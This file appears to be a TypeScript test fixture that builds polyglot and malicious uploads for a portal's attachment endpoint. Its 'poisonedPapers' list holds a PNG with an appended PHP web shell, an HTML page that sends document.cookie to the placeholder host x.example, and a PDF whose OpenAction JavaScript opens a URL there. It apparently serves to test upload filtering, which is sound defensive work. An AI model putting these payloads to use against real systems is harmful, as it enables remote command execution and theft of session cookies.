import { crc32, deflateSync } from 'node:zlib';
import type { Visitor } from './crowd.ts';
import type { Stage } from './stage.ts';

/** A file that somebody hands in. */
export interface Paper {
  readonly filename: string;
  readonly type: string;
  readonly data: Buffer;
}

const side = 24;
const boundary = 'DemoBoundary7MA4YWxk';

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** A grey picture as a phone makes it: with a note of where it was taken (PNG, third edition, 11.3.3.2 tEXt). */
function photo(shade: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  // Eight bits of grey, no interlacing.
  header[8] = 8;
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(side, shade)]);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('tEXt', Buffer.from('Comment\0taken at 31.2304 N 121.4737 E', 'latin1')),
    chunk('IDAT', deflateSync(Buffer.concat(Array.from({ length: side }, () => row)))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const receipt = (shade: number): Paper => ({ filename: '就诊收据.png', type: 'image/png', data: photo(shade) });

/** Files that are not what they call themselves: a picture that ends in a program, a page, and a document that does something by itself. */
export const poisonedPapers: readonly Paper[] = [
  {
    ...{ filename: 'receipt.png', type: 'image/png' },
    data: Buffer.concat([photo(200), Buffer.from('<?php system($_GET["c"]); ?>')]),
  },
  {
    ...{ filename: 'note.jpg', type: 'image/jpeg' },
    data: Buffer.from('<html><body onload="location=\'//x.example/\'+document.cookie"></body></html>'),
  },
  {
    ...{ filename: 'form.pdf', type: 'application/pdf' },
    data: Buffer.from(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("http://x.example/"\\)) >> >>\nendobj\n' +
        '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n',
    ),
  },
];

/** Hands a file in, as `wx.uploadFile` sends it. */
export async function handIn(stage: Stage, visitor: Visitor, { filename, type, data }: Paper): Promise<void> {
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`;
  const body = Buffer.concat([Buffer.from(head), data, Buffer.from(`\r\n--${boundary}--\r\n`)]);
  const headers = { 'content-type': `multipart/form-data; boundary=${boundary}` };
  await stage.call(visitor, 'POST', '/portal/api/attachments', body, headers);
}
